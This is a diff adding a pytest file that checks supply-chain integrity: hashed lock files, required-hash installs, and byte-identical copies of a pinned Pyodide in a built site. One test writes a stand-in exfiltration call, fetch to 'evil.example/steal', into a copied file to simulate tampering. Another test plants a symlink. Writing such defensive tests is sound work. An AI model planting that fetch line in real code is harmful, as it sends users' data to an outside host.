@@ -1,0 +1,119 @@
+"""Supply chain: what gets installed and shipped is what the lock files pin.
+
+- requirements.lock pins every Python package with PyPI's sha256 for it, so that `make install`
+  (pip --require-hashes) refuses a file that differs from what PyPI published;
+- the build copies Pyodide into the site only from the npm package version package-lock.json
+  pins, and the copies in the site are byte-identical to it (compared by content, not date).
+"""
+
+from __future__ import annotations
+
+import hashlib
+import json
+import os
+import re
+import shutil
+import tomllib
+from pathlib import Path
+
+import pytest
+from mkdocs.exceptions import PluginError
+
+from hooks.assets import PYODIDE_FILES, copy_pyodide
+from tests.conftest import ROOT
+
+NODE_MODULES = ROOT / "node_modules"
+PINNED_PYODIDE = json.loads((ROOT / "package-lock.json").read_text(encoding="utf-8"))["packages"]["node_modules/pyodide"]["version"]
+
+
+def sha256(path: Path) -> str:
+    return hashlib.sha256(path.read_bytes()).hexdigest()
+
+
+# ---------------------------------------------------------------------------------------------
+# requirements.lock
+# ---------------------------------------------------------------------------------------------
+
+
+def locked_requirements() -> dict[str, tuple[str, list[str]]]:
+    """{canonical name: (version, [sha256, ...])} from requirements.lock."""
+    text = (ROOT / "requirements.lock").read_text(encoding="utf-8").replace("\\\n", " ")
+    entries = {}
+    for line in text.splitlines():
+        if line.strip() and not line.startswith("#"):
+            requirement, *options = line.split()
+            name, version = requirement.split("==")
+            entries[re.sub(r"[-_.]+", "-", name).lower()] = (version, [o.removeprefix("--hash=sha256:") for o in options])
+    return entries
+
+
+def test_every_locked_package_has_pypi_hashes():
+    entries = locked_requirements()
+    assert len(entries) >= 40
+    for name, (version, hashes) in entries.items():
+        assert hashes, f"{name}=={version} has no hash: pip --require-hashes would refuse the whole lock"
+        assert all(re.fullmatch(r"[0-9a-f]{64}", h) for h in hashes), name
+
+
+def test_the_lock_pins_the_direct_dependencies_at_their_declared_versions():
+    declared = tomllib.loads((ROOT / "pyproject.toml").read_text(encoding="utf-8"))["project"]["optional-dependencies"]["dev"]
+    entries = locked_requirements()
+    for requirement in declared:
+        name, version = requirement.split("==")
+        assert entries[re.sub(r"[-_.]+", "-", name).lower()][0] == version, requirement
+
+
+def test_make_install_requires_hashes():
+    install_lines = [line for line in (ROOT / "Makefile").read_text(encoding="utf-8").splitlines()
+                     if "pip install" in line and "requirements.lock" in line]
+    assert install_lines and all("--require-hashes" in line for line in install_lines)
+
+
+# ---------------------------------------------------------------------------------------------
+# Pyodide copied into the site
+# ---------------------------------------------------------------------------------------------
+
+
+def test_the_site_gets_byte_identical_copies_of_the_pinned_pyodide(tmp_path):
+    assert json.loads((NODE_MODULES / "pyodide" / "package.json").read_text(encoding="utf-8"))["version"] == PINNED_PYODIDE
+    copy_pyodide(tmp_path / "pyodide")
+    for name in PYODIDE_FILES:
+        assert sha256(tmp_path / "pyodide" / name) == sha256(NODE_MODULES / "pyodide" / name), name
+
+
+def test_a_tampered_copy_newer_than_its_source_is_replaced(tmp_path):
+    """The old check compared dates, so a changed file with a newer date stayed in the site."""
+    target = tmp_path / "pyodide"
+    copy_pyodide(target)
+    tampered = target / "pyodide.mjs"
+    tampered.write_text("fetch('https://evil.example/steal');\n", encoding="utf-8")
+    future = (NODE_MODULES / "pyodide" / "pyodide.mjs").stat().st_mtime + 3600
+    os.utime(tampered, (future, future))
+    copy_pyodide(target)
+    assert sha256(tampered) == sha256(NODE_MODULES / "pyodide" / "pyodide.mjs")
+
+
+def test_a_link_planted_in_the_site_is_replaced_not_written_through(tmp_path):
+    target = tmp_path / "pyodide"
+    target.mkdir()
+    victim = tmp_path / "victim.txt"
+    victim.write_text("untouched", encoding="utf-8")
+    (target / "pyodide-lock.json").symlink_to(victim)
+    copy_pyodide(target)
+    assert victim.read_text(encoding="utf-8") == "untouched"
+    assert not (target / "pyodide-lock.json").is_symlink()
+    assert sha256(target / "pyodide-lock.json") == sha256(NODE_MODULES / "pyodide" / "pyodide-lock.json")
+
+
+def test_a_node_modules_pyodide_other_than_the_pinned_one_fails_the_build(tmp_path):
+    project = tmp_path / "project"
+    fake = project / "node_modules" / "pyodide"
+    fake.mkdir(parents=True)
+    shutil.copy(ROOT / "package-lock.json", project / "package-lock.json")
+    for name in PYODIDE_FILES:
+        (fake / name).write_text("// not the pinned Pyodide\n", encoding="utf-8")
+    (fake / "package.json").write_text(json.dumps({"name": "pyodide", "version": "0.26.0"}), encoding="utf-8")
+    with pytest.raises(PluginError, match=rf"node_modules/pyodide is version 0\.26\.0, but package-lock\.json "
+                                          rf"pins {re.escape(PINNED_PYODIDE)}"):
+        copy_pyodide(tmp_path / "site" / "pyodide", node_modules=project / "node_modules")
+    assert not (tmp_path / "site").exists()
